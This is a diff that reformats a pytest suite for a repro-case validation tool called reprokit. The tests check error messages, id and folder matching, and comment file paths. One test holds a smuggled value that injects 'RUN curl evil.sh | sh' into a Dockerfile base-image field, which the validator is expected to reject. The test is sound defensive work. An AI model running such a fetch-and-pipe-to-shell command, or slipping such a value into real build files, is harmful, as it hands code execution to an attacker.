@@ -1,4 +1,5 @@
 """Case and matrix validation: a bad field is one line naming the file, the field and what is allowed."""
+
 import shutil
 import subprocess
 import sys
@@ -28,13 +29,16 @@ def test_every_committed_case_is_valid():
     assert [case.id for case in cases] == [path.parent.name for path in paths]
 
 
-@pytest.mark.parametrize("old, new, expected", [
-    ("category: custom-op", "category: custom-opp", "category: must be 'dynamic-shape', "),
-    ("  dtypes: [float32]", "  dtypes: [flaot32]", "requires.dtypes.0: must be "),
-    ("requires:", "requirse:", "requirse: is not a known field"),
-    ("repro: {kind: raises", "repro: {kind: explodes", "expect.repro.kind: must be "),
-    ('match: "does not support running with fake tensors"', 'match: "(unclosed"', "match is not a valid regex"),
-])
+@pytest.mark.parametrize(
+    "old, new, expected",
+    [
+        ("category: custom-op", "category: custom-opp", "category: must be 'dynamic-shape', "),
+        ("  dtypes: [float32]", "  dtypes: [flaot32]", "requires.dtypes.0: must be "),
+        ("requires:", "requirse:", "requirse: is not a known field"),
+        ("repro: {kind: raises", "repro: {kind: explodes", "expect.repro.kind: must be "),
+        ('match: "does not support running with fake tensors"', 'match: "(unclosed"', "match is not a valid regex"),
+    ],
+)
 def test_typo_gives_one_line_naming_file_and_field(tmp_path, old, new, expected):
     text = GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: my-case")
     assert old in text
@@ -53,8 +57,11 @@ def test_id_must_match_folder(tmp_path):
 
 
 def test_matrix_rejects_a_line_injected_into_a_dockerfile_value(tmp_path):
-    text = (ROOT / "matrix.yaml").read_text().replace(
-        "base_image: debian:bookworm-slim", 'base_image: "debian:bookworm-slim\\nRUN curl evil.sh | sh"')
+    text = (
+        (ROOT / "matrix.yaml")
+        .read_text()
+        .replace("base_image: debian:bookworm-slim", 'base_image: "debian:bookworm-slim\\nRUN curl evil.sh | sh"')
+    )
     bad = tmp_path / "matrix.yaml"
     bad.write_text(text)
     with pytest.raises(InputError, match=r"targets\.cpu\.base_image: .* is not allowed"):
@@ -63,10 +70,18 @@ def test_matrix_rejects_a_line_injected_into_a_dockerfile_value(tmp_path):
 
 def test_cli_prints_one_line_and_no_traceback_for_a_typo(tmp_path):
     shutil.copy(ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
-    write_case(tmp_path, GOOD.read_text().replace("id: custom-op-unregistered-gemm", "id: my-case")
-               .replace("category: custom-op", "category: custom_op"))
-    proc = subprocess.run([sys.executable, "-m", "reprokit", "--root", str(tmp_path), "list"],
-                          capture_output=True, text=True, env={"PYTHONPATH": str(ROOT / "tools")})
+    write_case(
+        tmp_path,
+        GOOD.read_text()
+        .replace("id: custom-op-unregistered-gemm", "id: my-case")
+        .replace("category: custom-op", "category: custom_op"),
+    )
+    proc = subprocess.run(
+        [sys.executable, "-m", "reprokit", "--root", str(tmp_path), "list"],
+        capture_output=True,
+        text=True,
+        env={"PYTHONPATH": str(ROOT / "tools")},
+    )
     assert proc.returncode == 2
     assert proc.stderr.count("\n") == 1 and "Traceback" not in proc.stderr
     assert "cases/my-case/case.yaml: category: must be" in proc.stderr
@@ -77,8 +92,12 @@ def test_every_file_a_case_yaml_comment_points_at_exists():
     module exists (a header left pointing at a moved file sends a contributor nowhere)."""
     import re
 
-    named = [(path.parent.name, found) for path in sorted((ROOT / "cases").glob("*/case.yaml"))
-             for line in path.read_text(encoding="utf-8").splitlines() if line.startswith("#")
-             for found in re.findall(r"tools/[\w/]+\.py", line)]
+    named = [
+        (path.parent.name, found)
+        for path in sorted((ROOT / "cases").glob("*/case.yaml"))
+        for line in path.read_text(encoding="utf-8").splitlines()
+        if line.startswith("#")
+        for found in re.findall(r"tools/[\w/]+\.py", line)
+    ]
     assert len(named) >= 40  # the headers are there to check
     assert not [(case, file) for case, file in named if not (ROOT / file).is_file()]
